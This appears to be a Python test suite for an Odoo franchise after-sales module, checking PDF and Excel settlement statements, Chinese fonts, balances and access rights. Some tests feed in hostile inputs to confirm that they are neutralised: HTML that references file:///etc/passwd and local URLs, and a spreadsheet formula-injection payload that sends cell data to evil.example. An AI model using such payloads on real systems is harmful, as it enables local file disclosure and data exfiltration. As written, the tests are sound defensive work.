import io
import json
import re
from unittest.mock import patch

import openpyxl
import pypdf
from odoo import http
from odoo.exceptions import AccessError
from odoo.tests import HttpCase, new_test_user, tagged

from odoo.addons.base.models.ir_actions_report import IrActionsReport as CoreReport
from odoo.addons.franchise_aftersales.models.base import ir_actions_report as paged

from ..report.statement_xlsx import neutral
from .common import FranchiseCommon

REPORT = "franchise_aftersales.action_report_settlement_statement"
# A red dot, 1 × 1.
DATA_PIXEL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="


class StatementCase(FranchiseCommon):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.env["res.lang"]._activate_lang("zh_CN")
        cls.env["ir.module.module"]._load_module_terms(["franchise_aftersales"], ["zh_CN"])
        cls.yen = cls.env.ref("base.JPY")
        cls.yen.active = True

    def print_pdf(self, settlements, user=None):
        """The pages of the printed statements, by pypdf."""
        report = self.env["ir.actions.report"].with_user(user or self.user_accountant)
        report = report.with_context(force_report_rendering=True)
        content, kind = report._render_qweb_pdf(REPORT, settlements.ids)
        self.assertEqual(kind, "pdf")
        return pypdf.PdfReader(io.BytesIO(content)).pages

    def text(self, page):
        """Text of a page on one line: where it was wrapped doesn't matter."""
        return re.sub(r"\s+", " ", page.extract_text())

    def workbook(self, settlements):
        return openpyxl.load_workbook(io.BytesIO(settlements.with_user(self.user_accountant)._statement_xlsx()))


@tagged("post_install", "-at_install")
class TestStatementPdf(StatementCase):
    """R-E2 (statement with opening balance, movements, closing balance) and R-F1 (statement PDF, CJK fonts right)."""

    def test_story_from_claim_to_chinese_statement(self):
        """R-E2, R-F1: an accepted claim is on the statement, in the partner's language, its fonts embedded."""
        self.supplier.lang = "zh_CN"
        self.accepted_recovery(quantity=2, amounts={"1": "360.50"}, number="红字RBILL/7")
        settlement = self.settle(confirm=True)
        self.assertEqual(settlement.amount_total, 360.5)
        pages = self.print_pdf(settlement)
        self.assertEqual(len(pages), 1)
        text = self.text(pages[0])
        for expected in (
            "结算对账单",
            settlement.name,
            "Test Supplier 精工设备",
            "封口机",
            "期初余额",
            "本期发生额",
            "期末余额",
            "360.50",
            "红字RBILL/7",
            "第 1 / 1 页",
            self.currency.name,
        ):
            self.assertIn(expected, text)
        self.assertNotIn("草稿", text)
        self.assertNotIn("--", text)
        self.assertNotIn("\N{REPLACEMENT CHARACTER}", text)
        fonts = [font.get_object() for font in pages[0]["/Resources"]["/Font"].values()]
        self.assertTrue(fonts)
        for font in fonts:
            # Another font would be embedded too, and print boxes.
            self.assertIn("CJK", font["/BaseFont"])
            descriptor = font["/DescendantFonts"][0].get_object()["/FontDescriptor"].get_object()
            self.assertTrue({"/FontFile", "/FontFile2", "/FontFile3"} & set(descriptor), descriptor["/FontName"])

    def test_opening_movements_closing(self):
        """R-E2: what an earlier settlement left open is the next one's opening balance; the words say who owes whom."""
        first = self.make_settlement([100.0, 50.0])
        second = self.make_settlement([-400.0])
        self.assertEqual(second._statement_balances(), {"opening": 150.0, "movements": -400.0, "closing": -250.0})
        text = self.text(self.print_pdf(second)[0])
        self.assertIn("Opening balance 150.00", text)
        self.assertIn("Movements -400.00", text)
        self.assertIn(f"{self.company.name} owes {self.supplier.name}", text)
        # The printed minus sign is nothing but a minus sign.
        self.assertNotIn("\N{ZERO WIDTH NO-BREAK SPACE}", text)
        self.assertIn(f"{self.supplier.name} owes {self.company.name}", self.text(self.print_pdf(first)[0]))
        third = self.make_settlement([250.0])
        self.assertIn("owe each other nothing", third._statement_in_words())

    def test_draft_is_marked_on_each_page(self):
        """R-E2: nobody takes a draft for an issued statement; it shows the opening balance that it would get."""
        self.make_settlement([70.0])
        draft = self.make_settlement([1.0] * 60, confirm=False)
        pages = self.print_pdf(draft)
        self.assertGreater(len(pages), 1)
        for page in pages:
            self.assertIn("Draft", self.text(page))
        self.assertIn("Opening balance 70.00", self.text(pages[0]))
        self.assertIn("Not issued yet", self.text(pages[0]))
        self.supplier.lang = "zh_CN"
        for page in self.print_pdf(draft):
            self.assertIn("草稿", self.text(page))

    def test_many_lines_run_over_pages(self):
        """R-F1: 200 lines come out whole, each page with the table's header and its number."""
        long = "封口机加热片连续使用四小时后温度失控导致杯膜烧穿并有异味整批退回门店停业两日" * 2
        settlement = self.make_settlement([round(number + 0.37, 2) for number in range(200)])
        self.env.cr.execute(
            "UPDATE franchise_settlement_line SET name = name || %s WHERE settlement_id = %s",
            (" " + long, settlement.id),
        )
        settlement.line_ids.invalidate_recordset()
        pages = self.print_pdf(settlement)
        self.assertGreater(len(pages), 5)
        whole = ""
        for number, page in enumerate(pages, start=1):
            text = self.text(page)
            self.assertIn(f"Page {number} / {len(pages)}", text)
            self.assertIn("How it came about", text)
            whole += text
        for number in range(1, 201):
            self.assertIn(f"REF-{number:04d}", whole)
        self.assertEqual(re.sub(r"\s", "", whole).count(long), 200, "A description was cut.")
        width = float(pages[0].mediabox.width)
        positions = []
        pages[1].extract_text(
            visitor_text=lambda text, _cm, tm, *_font: positions.append(tm[4]) if text.strip() else None
        )
        self.assertTrue(positions)
        self.assertTrue(all(0 <= position < width for position in positions))

    def test_currency_without_decimals(self):
        """R-E2: yen have no decimals, on the lines as in the balances."""
        text = self.text(self.print_pdf(self.make_settlement([1234567.0, -890.0], currency=self.yen))[0])
        self.assertIn("1,234,567", text)
        self.assertIn("-890", text)
        self.assertIn("(JPY)", text)
        self.assertNotIn("1,234,567.", text)

    def test_two_statements_in_one_file(self):
        """R-F1: printed together, each statement keeps its own page numbers and language."""
        other = self.make_partner("第二供应商", lang="zh_CN")
        pages = self.print_pdf(self.make_settlement([1.0]) | self.make_settlement([2.0], partner=other))
        self.assertEqual(len(pages), 2)
        self.assertIn("Page 1 / 1", self.text(pages[0]))
        self.assertIn("第 1 / 1 页", self.text(pages[1]))

    def test_print_is_repeatable(self):
        """R-F1: the same statement printed twice is the same file."""
        settlement = self.make_settlement([12.0])
        report = self.env["ir.actions.report"].with_context(force_report_rendering=True)
        self.assertEqual(
            report._render_qweb_pdf(REPORT, settlement.ids)[0], report._render_qweb_pdf(REPORT, settlement.ids)[0]
        )

    def test_access(self):
        """R-F1: the report reads with the user's rights."""
        settlement = self.make_settlement([12.0])
        with self.assertRaises(AccessError):
            self.print_pdf(settlement, user=self.user_service)

    def test_nothing_is_fetched(self):
        """R-F1: a document never makes the server open an address or a file; what is embedded is printed."""
        html = (
            f'<html><body><img src="{DATA_PIXEL}"/><img src="file:///etc/hostname"/>'
            '<img src="http://127.0.0.1:1/x.png"/><link rel="stylesheet" href="https://example.com/x.css"/>'
            '<style>@import "file:///etc/passwd"; @font-face { font-family: x; src: url(ftp://127.0.0.1/x) }</style>'
            "<img src=\"data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' "
            "xmlns:xlink='http://www.w3.org/1999/xlink'%3E%3Cimage xlink:href='file:///etc/hostname'/%3E%3C/svg%3E\"/>"
            "<p>printed all the same</p></body></html>"
        )
        settlement = self.make_settlement([12.0])
        opened = []
        core_open = paged.URLFetcher.__mro__[1].open

        def remember(fetcher, request, *args, **kwargs):
            opened.append(request.full_url)
            return core_open(fetcher, request, *args, **kwargs)

        with (
            patch.object(CoreReport, "_render_qweb_html", lambda *_args, **_kwargs: (html.encode(), "html")),
            patch.object(paged.URLFetcher.__mro__[1], "open", remember),
            self.assertLogs("weasyprint", "ERROR") as logs,
        ):
            [page] = self.print_pdf(settlement)
        self.assertTrue(opened)
        self.assertEqual([url for url in opened if not url.startswith("data:")], [])
        self.assertIn("disallowed protocol", " ".join(logs.output))
        self.assertIn("printed all the same", self.text(page))
        self.assertEqual(len(page.images), 1)

    def test_without_weasyprint(self):
        """R-F1: without WeasyPrint wkhtmltopdf prints, one record a call: unpatched builds refuse two at once."""
        settlements = self.make_settlement([1.0]) | self.make_settlement([2.0], currency=self.yen)
        report = self.env.ref(REPORT)
        bodies = []
        writer = pypdf.PdfWriter()
        writer.add_blank_page(100, 100)
        blank = io.BytesIO()
        writer.write(blank)

        def run(_report, given, *_args, **_kwargs):
            bodies.append([str(body) for body in given])
            return blank.getvalue()

        with (
            patch.object(paged, "weasyprint", None),
            patch.object(CoreReport, "_run_wkhtmltopdf", run),
            patch.object(CoreReport, "get_wkhtmltopdf_state", lambda _report: "ok"),
        ):
            report.invalidate_recordset(["franchise_direct_pdf"])
            self.assertFalse(report.franchise_direct_pdf)
            self.assertNotIn("franchise_direct_pdf", report.report_action(settlements))
            self.assertEqual(len(self.print_pdf(settlements)), 2)
        self.assertEqual([len(given) for given in bodies], [1, 1])
        self.assertIn(settlements[0].name, bodies[0][0])
        # The style travels with the record: wkhtmltopdf gets nothing of the page around it.
        self.assertIn("table-layout: fixed", bodies[0][0])
        self.assertIn(settlements[1].name, bodies[1][0])

    def test_paper_format(self):
        """R-F1: the report's paper format holds for WeasyPrint too."""
        self.env.ref("franchise_aftersales.paperformat_settlement_statement").format = "Letter"
        [page] = self.print_pdf(self.make_settlement([1.0]))
        self.assertAlmostEqual(float(page.mediabox.width), 612, delta=1)
        self.assertAlmostEqual(float(page.mediabox.height), 792, delta=1)

    def test_stored_pdf_is_reused(self):
        """R-F1: a report told to keep its PDF prints it once and reads it ever after."""
        report = self.env.ref(REPORT)
        report.write({"attachment": "'statement.pdf'", "attachment_use": True})
        settlement = self.make_settlement([1.0])
        first = self.print_pdf(settlement, user=self.user_finance)[0].extract_text()
        with patch.object(CoreReport, "_render_qweb_html", side_effect=AssertionError("printed again")):
            self.assertEqual(self.print_pdf(settlement, user=self.user_finance)[0].extract_text(), first)
        attachments = self.env["ir.attachment"].search(
            [("res_model", "=", settlement._name), ("res_id", "=", settlement.id)]
        )
        self.assertEqual(len(attachments), 1)


@tagged("post_install", "-at_install")
class TestStatementXlsx(StatementCase):
    """R-E2, R-F1: the statement as a workbook."""

    def rows(self, sheet):
        """{text of the label or description: row number} of column B."""
        return {sheet.cell(row, 2).value: row for row in range(1, sheet.max_row + 1) if sheet.cell(row, 2).value}

    def test_live_totals(self):
        """R-E2: movements and closing balance are formulas over the lines; header frozen, filter set."""
        self.make_settlement([50.0])
        settlement = self.make_settlement([100.0, -20.25, 0.1])
        sheet = self.workbook(settlement).active
        self.assertEqual(sheet.title, settlement.name.replace("/", "-"))
        rows = self.rows(sheet)
        first, last = rows["Line 0001"], rows["Line 0003"]
        self.assertEqual([sheet.cell(row, 5).value for row in range(first, last + 1)], [100.0, -20.25, 0.1])
        opening, movements, closing = (rows[name] for name in ("Opening balance", "Movements", "Closing balance"))
        self.assertEqual(sheet.cell(opening, 5).value, 50.0)
        self.assertEqual(sheet.cell(movements, 5).value, f"=ROUND(SUM(E{first}:E{last}),2)")
        self.assertEqual(sheet.cell(closing, 5).value, f"=ROUND(E{opening}+E{movements},2)")
        self.assertEqual(sheet.freeze_panes, f"A{first}")
        self.assertEqual(sheet.auto_filter.ref, f"A{first - 1}:E{last}")
        # The filter must not take the totals for lines: a blank row lies between them.
        self.assertGreater(opening, last + 1)
        self.assertEqual(sheet.cell(first, 5).number_format, "#,##0.00;[Red]-#,##0.00")
        self.assertEqual(sheet.cell(first, 1).number_format, "yyyy-mm-dd")
        self.assertEqual(sheet.cell(first - 1, 5).value, f"Amount ({self.currency.name})")
        # What programs show that don't calculate.
        values = openpyxl.load_workbook(io.BytesIO(settlement._statement_xlsx()), data_only=True).active
        self.assertEqual(values.cell(movements, 5).value, 79.85)
        self.assertEqual(values.cell(closing, 5).value, 129.85)

    def test_cells_are_neutral(self):
        """R-F1: no text of a partner is ever a formula, also not after the sheet went through CSV."""
        evil = '=HYPERLINK("http://evil.example/"&A1,"click")'
        settlement = self.make_settlement([1.0], name=evil, formula="@SUM(A1:A9)", partner_reference="+1+1")
        sheet = self.workbook(settlement).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        texts = {cell.value: cell.data_type for cell in cells if isinstance(cell.value, str)}
        for text in ("'" + evil, "'@SUM(A1:A9)", "'+1+1"):
            self.assertEqual(texts.get(text), "s")
        formulas = [cell.value for cell in cells if cell.data_type == "f"]
        self.assertEqual(len(formulas), 2)
        self.assertTrue(all(formula.startswith("=ROUND(") for formula in formulas))
        self.assertFalse([cell for cell in cells if cell.hyperlink])

    def test_neutral(self):
        """R-F1: what starts like a formula gets an apostrophe, nothing else changes."""
        for start in ("=", "+", "-", "@", "\t=", "\r", "\n", "＝", "＋", "－", "＠", "  ="):
            self.assertEqual(neutral(f"{start}1"), f"'{start}1")
        for text in ("", "1-2", "AFC/2026/1 =x", "封口机", "'quoted"):
            self.assertEqual(neutral(text), text)
        self.assertEqual(neutral(None), "")
        self.assertEqual(neutral(False), "")
        self.assertLessEqual(len(neutral("=" + "x" * 40000)), 32767)

    def test_currency_without_decimals(self):
        """R-F1: yen have no decimals; the totals round to whole yen."""
        sheet = self.workbook(self.make_settlement([1234.0, -5.0], currency=self.yen)).active
        rows = self.rows(sheet)
        first = rows["Line 0001"]
        self.assertEqual(sheet.cell(first, 5).number_format, "#,##0;[Red]-#,##0")
        self.assertEqual(sheet.cell(rows["Movements"], 5).value, f"=ROUND(SUM(E{first}:E{first + 1}),0)")

    def test_chinese_headers(self):
        """R-F1: the workbook speaks the partner's language, whatever the user's is."""
        self.supplier.lang = "zh_CN"
        sheet = self.workbook(self.make_settlement([1.0])).active
        values = [cell.value for row in sheet.iter_rows() for cell in row]
        for text in ("日期", f"金额（{self.currency.name}）", "期初余额", "本期发生额", "期末余额"):
            self.assertIn(text, values)
        head_row = int(sheet.freeze_panes[1:]) - 1
        for column in range(1, 6):
            self.assertRegex(sheet.cell(head_row, column).value, "[\u4e00-\u9fff]")
        self.assertTrue(sheet["A1"].value.startswith("结算对账单"))

    def test_many_sheets(self):
        """R-F1: one sheet a settlement, each with a name that Excel allows; an empty draft too."""
        partners = self.make_partner("O'Neil [a/b]: *Very* long name of a partner?") | self.make_partner(
            "O'Neil [a/b]: *Very* long name of a partner?"
        )
        settlements = self.env["franchise.settlement"].union(
            *(self.make_settlement([], partner=partner, confirm=False) for partner in partners),
            self.make_settlement([3.0]),
        )
        book = self.workbook(settlements)
        self.assertEqual(len(book.sheetnames), 3)
        self.assertEqual(len({name.lower() for name in book.sheetnames}), 3)
        for name in book.sheetnames:
            self.assertLessEqual(len(name), 31)
            self.assertNotRegex(name, r"[\[\]:*?/\\']")
        sheet = book.worksheets[0]
        rows = self.rows(sheet)
        self.assertIn("Draft", rows)
        first = int(sheet.freeze_panes[1:])
        self.assertEqual(sheet.cell(rows["Movements"], 5).value, f"=ROUND(SUM(E{first}:E{first}),2)")


@tagged("post_install", "-at_install")
class TestStatementHttp(StatementCase, HttpCase):
    """R-F1: both statements over HTTP, with the user's own rights."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.settlement = cls.make_settlement([10.0, 20.0])

    def xlsx(self, ids):
        return self.url_open(f"/franchise/settlement/statement.xlsx?ids={ids}", allow_redirects=False)

    def test_workbook(self):
        """R-F1: an accountant downloads the workbook under the settlement's number."""
        self.authenticate("test_accountant", "test_accountant")
        response = self.xlsx(self.settlement.id)
        self.assertEqual(response.status_code, 200)
        self.assertIn("spreadsheetml", response.headers["Content-Type"])
        self.assertIn(self.settlement.name.replace("/", "-"), response.headers["Content-Disposition"])
        book = openpyxl.load_workbook(io.BytesIO(response.content))
        self.assertEqual(len(book.sheetnames), 1)
        # The same id twice is one sheet.
        twice = self.xlsx(f"{self.settlement.id},{self.settlement.id}")
        self.assertEqual(len(openpyxl.load_workbook(io.BytesIO(twice.content)).sheetnames), 1)

    def test_bad_ids(self):
        """R-F1: what is no list of ids is the caller's mistake."""
        self.authenticate("test_accountant", "test_accountant")
        for ids in (
            "",
            ",",
            "x",
            "1;drop",
            "-1",
            "0",
            "1.5",
            "99999999999",
            "9" * 500,
            "²",
            ",".join(map(str, range(1, 600))),
        ):
            self.assertEqual(self.xlsx(ids).status_code, 400, ids[:20])
        self.assertEqual(self.xlsx("2147483647").status_code, 404)

    def test_other_company(self):
        """R-F1: another company's settlement is refused, whole, also beside an own one."""
        company = self.env["res.company"].create({"name": "Another Company"})
        other = self.make_settlement([1.0], company=company, partner=self.make_partner("Their Supplier"))
        self.authenticate("test_accountant", "test_accountant")
        with self.assertLogs("odoo.http", "WARNING"):
            self.assertEqual(self.xlsx(other.id).status_code, 403)
            self.assertEqual(self.xlsx(f"{self.settlement.id},{other.id}").status_code, 403)

    def test_role_and_login(self):
        """R-F1: service staff and portal users get nothing, a stranger gets the login page."""
        response = self.xlsx(self.settlement.id)
        self.assertEqual(response.status_code, 303)
        self.assertIn("/web/login", response.headers["Location"])
        new_test_user(self.env, login="test_portal", groups="base.group_portal")
        for login in ("test_service", "test_portal"):
            self.authenticate(login, login)
            with self.assertLogs("odoo.http", "WARNING"):
                self.assertEqual(self.xlsx(self.settlement.id).status_code, 403)

    def test_pdf_where_wkhtmltopdf_is_missing(self):
        """R-F1: the web client is told to fetch the PDF at once, and gets one, though wkhtmltopdf isn't there."""
        self.authenticate("test_accountant", "test_accountant")
        with patch.object(CoreReport, "get_wkhtmltopdf_state", lambda _report: "install"):
            action = self.make_jsonrpc_request("/web/action/load", {"action_id": self.env.ref(REPORT).id})
            self.assertTrue(action["franchise_direct_pdf"])
            response = self.url_open(
                "/report/download",
                data={
                    "data": json.dumps([f"/report/pdf/{action['report_name']}/{self.settlement.id}", "qweb-pdf"]),
                    "context": json.dumps({"force_report_rendering": True}),
                    "csrf_token": http.Request.csrf_token(self),
                },
            )
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response.headers["Content-Type"], "application/pdf")
        self.assertIn(self.settlement.name.replace("/", "-"), response.headers["Content-Disposition"])
        [page] = pypdf.PdfReader(io.BytesIO(response.content)).pages
        self.assertIn("Page 1 / 1", self.text(page))

    def test_button(self):
        """R-F1: the settlement's button prints at once too, without asking for the company's document layout."""
        self.company.external_report_layout_id = False
        action = self.settlement.with_user(self.env.ref("base.user_admin")).action_print_statement()
        self.assertEqual(action["type"], "ir.actions.report")
        self.assertTrue(action["franchise_direct_pdf"])
        self.assertEqual(action["context"]["active_ids"], self.settlement.ids)
